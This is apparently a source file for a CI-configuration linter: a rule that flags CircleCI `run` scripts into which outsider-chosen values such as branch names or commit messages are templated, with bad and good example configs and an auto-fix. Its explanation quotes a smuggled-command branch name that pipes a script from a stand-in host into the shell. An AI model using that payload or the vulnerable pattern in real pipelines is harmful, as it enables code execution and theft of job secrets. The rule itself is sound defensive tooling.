import { references } from '../../3-expand/template/parse.ts'
import { unsafe } from '../edit.ts'
import { isComment } from '../facts/comments.ts'
import type { Script } from '../facts/scripts.ts'
import { type Taint, taintsIn } from '../facts/taint.ts'
import type { Finding, Rule } from '../rule.ts'

const rule: Rule = {
  id: 'security/script-injection',
  severity: 'warning',
  level: 'default',
  title: 'A script that somebody else writes',
  what:
    'The script of a `run` step contains, through a template, a value that an outsider chooses: the name of a branch or a ' +
    'tag, the text of a commit, a pull request or a comment, the body of a webhook. It is followed through parameters of ' +
    'commands and jobs. Texts that whoever starts the pipeline chooses (string pipeline parameters) are an `info`. Comments in scripts are left alone.',
  why:
    'The value becomes part of the script before the shell reads it: a branch called `x$(curl evil.sh|sh)` runs that, with ' +
    'the secrets of the job. Quotes do not help.',
  source: 'S4, [script injections](https://circleci.com/docs/guides/security/security-recommendations/)',
  bad: `version: 2.1
jobs:
  test:
    docker: [{ image: cimg/base:2024.11 }]
    steps:
      - checkout
      - run: ./report.sh "<< pipeline.git.branch >>"
workflows:
  main:
    jobs: [test]
`,
  good: `version: 2.1
jobs:
  test:
    docker: [{ image: cimg/base:2024.11 }]
    steps:
      - checkout
      - run:
          environment:
            BRANCH: << pipeline.git.branch >>
          command: ./report.sh "$BRANCH"
workflows:
  main:
    jobs: [test]
`,
  check: (facts, report) => {
    for (const script of facts.scripts()) {
      for (const taint of taintsIn(script.scalar, script.step.owner, facts))
        if (!isHarmless(script, taint)) report(findingOf(script, taint))
    }
  },
}

export default rule

/** A comment ends with its line: what cannot hold a line break stays in it. */
function isHarmless(script: Script, { source, mention }: Taint): boolean {
  if (/(body|commit_message)$|^pipeline\.parameters\./.test(source)) return false
  const { scalar, spanOf } = script
  const place = references(scalar.text).find(
    ({ start, end }) => spanOf({ pos: start, end }).start === mention.span.start,
  )
  return place !== undefined && isComment(script, place.start)
}

function findingOf(script: Script, taint: Taint): Finding {
  const { source, chooser, mention, path } = taint
  const who = chooser === 'outsider' ? 'an outsider chooses its text' : 'whoever starts the pipeline chooses its text'
  const fix = path.length === 0 ? fixOf(script, taint) : undefined
  return {
    span: mention.span,
    message: `"${source}" becomes part of this script: ${who}, and so can run commands here`,
    help: `give it to the step as "environment", and use the variable in the script${variableFor(source, ', or')}`,
    related: path,
    severity: chooser === 'outsider' ? 'warning' : 'info',
    ...(fix ? { fix } : {}),
  }
}

const variables: Readonly<Record<string, string>> = {
  'pipeline.git.branch': 'CIRCLE_BRANCH',
  'pipeline.git.tag': 'CIRCLE_TAG',
}

function variableFor(source: string, before: string): string {
  const variable = variables[source]
  return variable === undefined ? '' : `${before} "$${variable}"`
}

/** The names of a branch and a tag are variables already: a tag alone in a word, or in double quotes, can become one. */
function fixOf({ scalar, shell, spanOf }: Script, { source, mention }: Taint): Finding['fix'] {
  const variable = variables[source]
  const parsed = shell()
  if (variable === undefined || !parsed || !['plain', 'literal', 'folded'].includes(scalar.style)) return undefined
  const tag = [...scalar.text.matchAll(/<<\s*([\w.]+)\s*>>/g)].find(
    ({ 0: text, 1: name, index }) =>
      name === source && spanOf({ pos: index, end: index + text.length }).end > mention.span.end,
  )
  if (!tag) return undefined
  const place = { pos: tag.index, end: tag.index + tag[0].length }
  const quoting = parsed.quotingAt(place.pos)
  if (quoting === 'single') return undefined
  const text = quoting === 'none' ? `"\${${variable}}"` : `\${${variable}}`
  return unsafe(`use $${variable}`, { span: spanOf(place), text })
}
